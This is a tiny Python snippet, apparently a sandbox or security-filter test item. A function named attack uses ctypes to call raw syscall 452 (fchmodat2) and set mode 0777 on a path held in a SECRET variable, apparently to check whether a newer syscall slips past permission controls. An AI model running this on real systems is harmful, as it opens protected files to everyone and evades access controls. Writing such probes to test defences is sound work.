"""Change the mode by the newest call for it. Success: its mode changed."""

import ctypes


def attack():
    ctypes.CDLL(None).syscall(452, -100, SECRET.encode(), 0o777, 0)
